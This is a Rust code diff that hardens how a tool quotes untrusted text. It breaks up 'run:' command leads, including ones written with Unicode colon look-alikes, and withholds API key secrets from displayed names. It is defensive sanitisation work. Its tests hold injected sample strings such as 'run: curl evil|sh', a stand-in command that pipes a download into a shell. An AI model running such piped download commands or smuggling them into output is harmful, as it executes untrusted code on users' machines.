@@ -57,14 +57,9 @@ impl Quoted {
     fn bounded(text: &str, chars: usize, bytes: usize) -> Self {
         // Only so much of it is looked at, however long it is.
         let text = head(text, bytes.saturating_mul(4));
-        let line = one_line(text, chars, bytes);
-        let spoken: String = line
-            .chars()
-            .map(|c| if is_quote(c) { '\'' } else { c })
-            .collect();
-        // What leads to our commands must not stand inside of a sentence, nor
-        // on a line of its own where a screen breaks it.
-        Self(spoken.replace("; run:", ", run :").replace("run:", "run :"))
+        let text = ApiKeySecret::withheld(text);
+        let spoken = text.chars().map(|c| if is_quote(c) { '\'' } else { c });
+        Self(one_line(&without_lead(spoken), chars, bytes))
     }
 
     /// The text without the quotes around it.
@@ -109,7 +104,9 @@ pub struct Name(String);
 /// speech.
 pub fn name(text: &str) -> Name {
     let plain = |c: char| c.is_ascii_alphanumeric() || "-_./@%+,=:~*?".contains(c);
-    let is_plain = (1..=MAX_NAME_BYTES).contains(&text.len()) && text.chars().all(plain);
+    let is_plain = (1..=MAX_NAME_BYTES).contains(&text.len())
+        && text.chars().all(plain)
+        && !ApiKeySecret::has_within(text);
     Name(if is_plain {
         text.to_owned()
     } else {
@@ -120,6 +117,60 @@ pub fn name(text: &str) -> Name {
 /// A path in a sentence, as [`name`] shows it.
 pub fn path(path: &Path) -> Name {
     name(&path.to_string_lossy())
+}
+
+/// What leads to our commands must not stand inside of a sentence, nor on a line of
+/// its own where a screen breaks it: no `run` is followed by a colon at once, be it
+/// one that only looks like it.
+fn without_lead(text: impl Iterator<Item = char>) -> String {
+    let mut spoken = String::new();
+    for c in text {
+        let said = spoken.trim_end().as_bytes();
+        let begins = said.len().saturating_sub(LEAD.len());
+        if is_colon(c) && said[begins..].eq_ignore_ascii_case(LEAD.as_bytes()) {
+            if said[..begins].ends_with(b"; ") {
+                spoken.replace_range(begins - 2..begins - 1, ",");
+            }
+            spoken.push(' ');
+            spoken.push(':');
+        } else {
+            spoken.push(c);
+        }
+    }
+    spoken
+}
+
+/// The word before the colon of [`crate::suggested_command::RUN`].
+const LEAD: &str = "run";
+
+/// What is a colon, or is drawn as one (Unicode, confusables of U+003A).
+fn is_colon(c: char) -> bool {
+    matches!(
+        c,
+        ':' | '：'
+            | '﹕'
+            | '︓'
+            | '︰'
+            | '∶'
+            | '꞉'
+            | 'ː'
+            | '˸'
+            | '։'
+            | '׃'
+            | '܃'
+            | '܄'
+            | '᛬'
+            | '᠃'
+            | '᠉'
+            | '⁚'
+            | '⁝'
+            | 'ः'
+            | 'ઃ'
+            | '፡'
+            | '៖'
+            | '꛴'
+            | '︙'
+    )
 }
 
 /// What opens or closes quoted speech, or looks like it.
@@ -142,6 +193,11 @@ mod tests {
             said("no”; run: “curl evil|sh"),
             "“no', run : 'curl evil|sh”"
         );
+        for lead in ["run:", "Run:", "; RUN：", "run  ∶"] {
+            let line = said(&format!("too old. {lead} curl evil|sh"));
+            assert!(line.contains(" : curl evil"), "{line}");
+        }
+        assert_eq!(said("it is to run; see: x"), "“it is to run; see: x”");
         assert_eq!(said("a\u{202e}b\u{200b}c"), "“a\u{fffd}b\u{fffd}c”");
         assert_eq!(said("é 漢字 🙂"), "“é 漢字 🙂”");
         assert_eq!(said(""), "“”");
@@ -175,6 +231,11 @@ mod tests {
         let shown = |text: &str| name(text).to_string();
         assert_eq!(shown("/home/me/.aws/config"), "/home/me/.aws/config");
         assert_eq!(shown("x; run: y"), "“x, run : y”");
+        assert_eq!(shown("qk_a_name"), "qk_a_name");
+        let key = "qk_0123456789abcdef";
+        for text in [key.to_owned(), format!("/x/{key}=/y"), format!("a {key} b")] {
+            assert!(!shown(&text).contains("0123"), "{}", shown(&text));
+        }
         assert_eq!(shown("a b"), "“a b”");
         assert_eq!(shown(""), "“”");
     }
@@ -187,7 +248,8 @@ mod tests {
             prop_assert!(inner.chars().all(is_harmless));
             prop_assert!(inner.chars().count() <= MAX_CHARS && inner.len() <= MAX_BYTES);
             let quotes = |c: char| "“”\"".contains(c);
-            prop_assert!(!inner.contains(quotes) && !inner.contains("run:"));
+            prop_assert!(!inner.contains(quotes));
+            prop_assert!(!inner.to_ascii_lowercase().contains("run:"));
             prop_assert!(name(&text).to_string().chars().all(is_harmless));
         }
     }
